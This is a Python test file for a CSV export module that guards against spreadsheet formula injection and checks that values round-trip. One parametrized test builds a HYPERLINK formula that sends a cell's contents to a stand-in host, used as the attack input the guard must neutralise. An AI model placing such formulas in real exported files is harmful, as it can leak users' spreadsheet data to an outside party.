"""Single values in CSV files: nothing is a formula, and everything comes back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kit.exchange.cells import PLAIN, SWEDISH_EXCEL, Cell, Dialect, guarded, line, number, unguarded

NAUGHTY = json.loads(
    (Path(__file__).parent / "cases" / "naughty-strings.json").read_text(encoding="utf-8")
)["strings"]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
DIALECTS = pytest.mark.parametrize("dialect", [PLAIN, SWEDISH_EXCEL], ids=["plain", "excel-sv"])


def read(text: str, dialect: Dialect) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter, strict=True))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"])
@DIALECTS
def test_a03_a_text_that_could_be_a_formula_is_prefixed_and_quoted(
    start: str, dialect: Dialect
) -> None:
    text = f'{start}HYPERLINK("http://example.invalid?"&A1)'
    written = line([text], dialect)
    assert written.startswith(f"\"'{start}")
    assert written.endswith('"\r\n')
    assert read(written, dialect) == [[f"'{text}"]]
    assert unguarded(f"'{text}") == text


@pytest.mark.parametrize(
    "hidden", [" =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "\x1f-1", "＝1", "﹢1", "  \t +1"]
)
def test_a03_what_cannot_be_seen_before_the_sign_does_not_hide_it(hidden: str) -> None:
    assert guarded(hidden) == f"'{hidden}"


@pytest.mark.parametrize("harmless", ["", "a=b", "5", "3-4", "e@post", "Åsa", "(1)", "#1"])
def test_other_texts_stay_as_they_are(harmless: str) -> None:
    assert guarded(harmless) == harmless


@DIALECTS
def test_numbers_stay_numbers(dialect: Dialect) -> None:
    written = line([-3, 2.5, -0.1, 0, 1e-7, None], dialect)
    comma = written.replace(".", ",") if dialect.decimal == "," else written
    assert written == comma
    assert '"' not in written
    assert "'" not in written
    (cells,) = read(written, dialect)
    assert [number(cell, dialect.decimal) for cell in cells[:-1]] == [-3, 2.5, -0.1, 0, 1e-7]
    assert cells[-1] == ""


@pytest.mark.parametrize("odd", ["", "nan", "inf", "1_000", "0x1", "1.000,5", "٣", "=1", " 1"])
def test_what_is_no_number_is_not_taken_for_one(odd: str) -> None:
    with pytest.raises(ValueError, match=r"^"):
        number(odd, ",")


@DIALECTS
def test_b01_naughty_strings_come_back_byte_for_byte(dialect: Dialect) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in NAUGHTY]
    file = "".join(line([text, 7], dialect) for text in texts)
    assert [(unguarded(cell), seven) for cell, seven in read(file, dialect)] == [
        (text, "7") for text in texts
    ]


@DIALECTS
@given(row=st.lists(TEXTS | st.integers(-(2**53), 2**53) | st.floats(-1e15, 1e15), min_size=1))
@example(row=["a\r\nb", "", 'x"y', "e\u0301", "é"])
@example(row=[""])
def test_what_is_read_back_is_what_was_written(row: list[Cell], dialect: Dialect) -> None:
    # A lone empty cell makes an empty line, which readers skip; no table of ours has one column.
    ((*cells, last),) = read(line([*row, "last"], dialect), dialect)
    assert last == "last"
    for cell, given_ in zip(cells, row, strict=True):
        assert (
            unguarded(cell) if isinstance(given_, str) else number(cell, dialect.decimal)
        ) == given_
        assert guarded(cell) in {cell, f"'{cell}"}
        if isinstance(given_, str):
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
